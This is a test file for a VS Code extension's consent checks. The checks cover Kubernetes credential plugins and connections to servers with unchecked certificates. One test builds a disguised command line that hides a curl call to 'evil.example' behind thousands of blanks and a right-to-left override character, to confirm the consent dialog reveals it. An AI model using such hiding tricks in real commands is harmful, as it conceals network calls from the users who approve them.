import { beforeEach, describe, expect, it } from 'vitest';
import type { CredentialPlugin } from '../../../src/app/clusters/kubeconfig.ts';
import { Consents } from '../../../src/vscode/clusters/consents.ts';
import { answers, messages, questions, workspace } from '../../support/fake-vscode.ts';

const plugin: CredentialPlugin = {
  command: 'aws',
  program: '/usr/local/bin/aws',
  commandLine: 'aws eks get-token --cluster-name prod --token ***',
  hash: 'a'.repeat(64),
  kubeconfig: 'access/prod.kubeconfig.enc',
  server: 'https://prod.example:6443',
};
const other = { ...plugin, commandLine: 'aws eks get-token --cluster-name staging', hash: 'b'.repeat(64) };

class State {
  readonly kept = new Map<string, unknown>();
  get(key: string): unknown {
    return this.kept.get(key);
  }
  async update(key: string, value: unknown): Promise<void> {
    if (value === undefined) this.kept.delete(key);
    else this.kept.set(key, value);
  }
}

let state: State;
let consents: Consents;
const again = () => new Consents(state as never);

beforeEach(() => {
  for (const list of [answers, messages, questions]) list.length = 0;
  workspace.isTrusted = true;
  state = new State();
  consents = again();
});

describe('a credential plugin', () => {
  it('is shown whole before it runs for the first time, and then runs unasked', async () => {
    answers.push('Run Plugin');
    expect(await consents.mayRun(plugin)).toBe(true);
    expect(await again().mayRun(plugin)).toBe(true);
    expect(questions).toHaveLength(1);
    for (const part of [plugin.commandLine, plugin.program, plugin.kubeconfig, plugin.server])
      expect(questions[0]?.detail).toContain(part);
  });

  it('is remembered by its hash alone', async () => {
    answers.push('Run Plugin');
    await consents.mayRun(plugin);
    expect([...state.kept.values()]).toEqual([[plugin.hash]]);
  });

  it('is asked about again where it was declined, and where anything about it changed', async () => {
    expect(await consents.mayRun(plugin)).toBe(false);
    answers.push('Run Plugin', undefined);
    expect(await consents.mayRun(plugin)).toBe(true);
    expect(await consents.mayRun(other)).toBe(false);
    expect(questions).toHaveLength(3);
  });

  it('is asked about once, though two clusters want it at the same time', async () => {
    answers.push('Run Plugin');
    expect(await Promise.all([consents.mayRun(plugin), consents.mayRun(plugin)])).toEqual([true, true]);
    expect(questions).toHaveLength(1);
  });

  it('waits until the question before it is answered', async () => {
    answers.push(undefined, 'Run Plugin', 'Connect Unchecked');
    const asked = [
      consents.mayRun(plugin),
      consents.mayRun(other),
      consents.mayGoUnchecked('https://10.0.0.1:6443', 'lab'),
    ];
    expect(await Promise.all(asked)).toEqual([false, true, true]);
    expect(state.kept.get('purser.allowedPlugins')).toEqual([other.hash]);
  });

  it('is refused without a question in Restricted Mode, whatever was allowed before', async () => {
    answers.push('Run Plugin');
    await consents.mayRun(plugin);
    workspace.isTrusted = false;
    expect(await consents.mayRun(plugin)).toBe(false);
    expect(await consents.mayGoUnchecked('https://10.0.0.1:6443', 'lab')).toBe(false);
    expect(questions).toHaveLength(1);
  });

  it('cannot push a part of its command line out of sight', async () => {
    const commandLine = `sh -c 'true'${' '.repeat(4000)}\u202e; curl${'x'.repeat(5000)} evil.example`;
    await consents.mayRun({ ...plugin, commandLine });
    const { detail = '' } = questions[0] ?? {};
    expect(detail).toContain('[4000 blanks]');
    expect(detail).toContain('more characters]');
    expect(detail).toContain('evil.example');
    expect(detail).not.toMatch(/\u202e/);
    expect(detail.length).toBeLessThan(2000);
  });

  it('is asked about again after Forget Allowed Plugins', async () => {
    answers.push('Run Plugin');
    await consents.mayRun(plugin);
    await consents.forget();
    expect(state.kept.size).toBe(0);
    expect(await consents.mayRun(plugin)).toBe(false);
    expect(messages).toContain('1 credential plugin may no longer run unasked.');
  });

  it('is not allowed by a memory that somebody else wrote', async () => {
    state.kept.set('purser.allowedPlugins', { [plugin.hash]: true });
    expect(await consents.mayRun(plugin)).toBe(false);
  });
});

describe('a server that nobody checks', () => {
  it('is asked about once a session, by server and kubeconfig', async () => {
    answers.push('Connect Unchecked');
    expect(await consents.mayGoUnchecked('https://10.0.0.1:6443', 'lab')).toBe(true);
    expect(await consents.mayGoUnchecked('https://10.0.0.1:6443', 'lab')).toBe(true);
    expect(await consents.mayGoUnchecked('https://10.0.0.1:6443', 'other')).toBe(false);
    expect(await consents.mayGoUnchecked('https://10.0.0.2:6443', 'lab')).toBe(false);
    expect(questions.map(({ message }) => message)).toEqual([
      'Connect to https://10.0.0.1:6443 without checking its certificate?',
      'Connect to https://10.0.0.1:6443 without checking its certificate?',
      'Connect to https://10.0.0.2:6443 without checking its certificate?',
    ]);
    expect(questions[0]?.detail).toContain('lab');
    expect(state.kept.size).toBe(0);
    expect(await again().mayGoUnchecked('https://10.0.0.1:6443', 'lab')).toBe(false);
  });
});
